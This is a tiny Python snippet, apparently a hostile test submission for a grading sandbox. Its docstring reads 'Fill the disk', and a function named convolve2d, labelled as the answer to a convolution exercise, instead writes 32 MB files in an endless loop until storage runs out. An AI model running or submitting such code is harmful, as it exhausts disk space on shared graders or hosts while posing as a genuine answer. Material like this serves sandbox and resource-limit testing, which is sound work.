"""Fill the disk.

Points: convolve 2.
"""

# %% answer="convolve2d"
def convolve2d(image, kernel):
    number = 0
    while True:
        number += 1
        open(f"fill{number}", "wb").write(bytes(2**25))
